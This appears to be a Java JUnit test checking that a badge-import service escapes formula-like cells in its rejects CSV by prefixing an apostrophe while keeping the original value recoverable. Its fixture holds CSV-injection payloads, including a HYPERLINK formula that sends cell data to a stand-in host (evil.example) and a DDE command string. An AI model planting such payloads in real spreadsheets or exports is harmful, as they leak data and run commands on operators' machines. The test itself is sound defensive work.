package dev.badgeworks.imports.control;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.badgeworks.imports.entity.ImportReject;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 26: a rejected row's formula was copied verbatim into the rejects file an operator opens in a spreadsheet. */
class ImportReportTest {

    @TempDir
    Path dir;

    @Test
    void cellsASpreadsheetWouldRunGetAnApostropheAndTheOriginalStaysRecoverable() throws Exception {
        List<String> originals = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\"),b,c", "+cmd|calc!A0",
                "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "pos-1001,b,c", "", "a=b");
        List<ImportReject> rejects = new ArrayList<>();
        for (int i = 0; i < originals.size(); i++) {
            rejects.add(new ImportReject("import-id", i + 2, 1104, "earnEventDate", "Invalid date.", originals.get(i)));
        }
        Path file = dir.resolve("x.rejects.csv");
        ImportReport.writeRejects(file, last -> last == 0 ? rejects : List.of());

        List<CSVRecord> rows;
        try (Reader in = Files.newBufferedReader(file)) {
            rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(in).getRecords();
        }
        assertEquals(originals.size(), rows.size());
        for (int i = 0; i < originals.size(); i++) {
            String cell = rows.get(i).get("original");
            char first = originals.get(i).isEmpty() ? 'x' : originals.get(i).charAt(0);
            boolean risky = "=+-@\t\r'".indexOf(first) >= 0;
            assertEquals(risky ? "'" + originals.get(i) : originals.get(i), cell, "row " + i);
            // what an operator's script does to get the sender's bytes back
            assertEquals(originals.get(i), cell.startsWith("'") ? cell.substring(1) : cell);
        }
    }
}
